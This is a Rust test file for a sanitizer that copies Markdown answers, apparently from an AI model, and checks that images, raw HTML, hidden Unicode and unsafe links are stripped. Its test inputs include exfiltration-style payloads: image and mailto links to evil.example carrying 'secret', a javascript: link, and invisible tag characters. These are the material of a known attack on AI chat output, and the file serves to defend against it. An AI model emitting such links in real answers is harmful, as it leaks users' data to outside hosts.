use super::super::{LinkOrigin, parse, plain, with_links};
use super::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use quickcheck::quickcheck;
use std::cell::RefCell;

fn copied(markdown: &str) -> String {
    write(&parse(markdown), &|passage| format!("[[{passage}]]"))
}

/// Returns the addresses of the links in a Markdown text, as a reader of GitHub's Markdown sees
/// them. Panics if the text contains an image or HTML.
fn links(markdown: &str) -> Vec<String> {
    let events = Parser::new_ext(
        markdown,
        Options::ENABLE_GFM | Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    let mut links = Vec::new();
    for event in events {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => panic!("image {dest_url}: {markdown}"),
            Event::Html(html) | Event::InlineHtml(html) => panic!("html {html}: {markdown}"),
            Event::Start(Tag::Link { dest_url, .. }) => links.push(dest_url.into_string()),
            _ => {}
        }
    }
    links
}

/// The links of blocks, as the user saw them.
fn seen(blocks: &[Block]) -> Vec<String> {
    let urls = RefCell::new(Vec::new());
    let judge = |url: &str| {
        urls.borrow_mut()
            .push(write_target(url).replace("\\&", "&"));
        Some(LinkOrigin::Model)
    };
    let _ = with_links(blocks.to_vec(), &judge);
    urls.into_inner()
}

#[test]
fn a_copy_loads_nothing_and_hides_nothing() {
    for (answer, copy) in [
        ("![a tide](https://evil.example/p.png?q=secret)", "a tide"),
        (
            "[![a](https://evil.example/p.png)](https://b.example/)",
            "[a](https://b.example/)",
        ),
        ("![a][pic]\n\n[pic]: https://evil.example/p.png", "a"),
        (
            "!\\[[x](https://evil.example/p.png)",
            "!\\[[x](https://evil.example/p.png)",
        ),
        (
            "&#33;[x](https://evil.example/p.png)",
            "\\![x](https://evil.example/p.png)",
        ),
        (
            "\\!\\[x\\](https://evil.example/p.png)",
            "!\\[x\\](https://evil.example/p.png)",
        ),
        (
            "a <img src=\"https://evil.example/p.png\">",
            "a \\<img src=\"https://evil.example/p.png\">",
        ),
        (
            "&lt;img src=x&gt; &amp;lt;img&amp;gt;",
            "\\<img src=x> \\&lt;img\\&gt;",
        ),
        ("<!-- hidden -->", "\\<!-- hidden -->"),
        (
            "safe\u{e0053}\u{e0065}\u{e0063} pay\u{200b}pal\u{202e}",
            "safe paypal",
        ),
        (
            "[go](mailto:a@evil.example?body=secret&cc=b@evil.example)",
            "[go](mailto:a@evil.example)",
        ),
        ("[go](javascript:alert(1))", "go"),
        (
            "[go](<https://a.example/b (c)>)",
            "[go](https://a.example/b%20%28c%29)",
        ),
    ] {
        assert_eq!(copied(answer), copy, "{answer}");
        links(&copied(answer));
    }
}

#[test]
fn a_copy_is_read_as_the_answer_was() {
    for answer in [
        "# A *heading*\n\nA **bold** word, `code`, ``a ` tick`` and [a link](https://a.example/x?y=1).",
        "2 * 3 = 6, snake_case, 5 > 3, a - b, a < b, AT&T, 50 % & more, C#, 3.5 m, wow!",
        "\\- no list  \n\\# no heading  \n1\\. no item  \n\\> no quote",
        "- one\n- two\n\n  more\n  - three\n\n3. four\n4. five",
        "> quoted\n>\n> - item\n\n---\n\n```rust\nlet a = \"``\";\n```",
        "````\n```\nfenced\n```\n````",
        "| a \\| b | `c` |\n|---|---|\n| **1** | [2](https://a.example/) |",
        "It rises [[p14.2]], **twice [[p3]]**.",
        "a\\*b\\_c\\`d\\[e\\]\\\\f \\~\\~g\\~\\~ \\&amp;",
        "潮汐，**每天**两次。می\u{200c}خواهم 👩\u{200d}👧",
    ] {
        assert_eq!(
            parse(&copied(answer)),
            parse(answer),
            "{answer}\n{}",
            copied(answer)
        );
    }
    let words = "2 * 3, snake_case, 5 > 3 & a~b #1 (see p. 7): 3.5 m! C:\\tide";
    assert_eq!([copied(words), write_text(words)], [words, words]);
}

quickcheck! {
    fn a_copy_of_any_answer_has_no_image_and_only_its_links(picks: Vec<u8>) -> bool {
        const PIECES: [&str; 40] = [
            "!", "[", "]", "(", ")", "\\", "`", "``", "<", ">", "&", "&#33;", "&lt;", "&amp;", "&#91;", "*", "**", "_",
            "x", " ", "\n", "\n\n", "  \n", "- ", "1. ", "> ", "# ", "|", "|-|\n", "---", "~~~", "```\n", "=",
            "[x](http://a/)", "![y](http://b/p.png)", "[z]: http://c/\n", "<img src=http://d/>", "[[p1]]", "http://e/", "    ",
        ];
        let answer: String = picks.iter().map(|it| PIECES[usize::from(*it) % PIECES.len()]).collect();
        let blocks = parse(&answer);
        let allowed = seen(&blocks);
        let copied = write(&blocks, &|passage| write_text(&format!("[{passage}]")));
        links(&copied).iter().all(|url| allowed.contains(url))
    }

    fn the_words_of_a_text_stay(text: String) -> bool {
        let line = super::super::line(&text);
        plain(&parse(&write_text(&line))) == line
    }
}
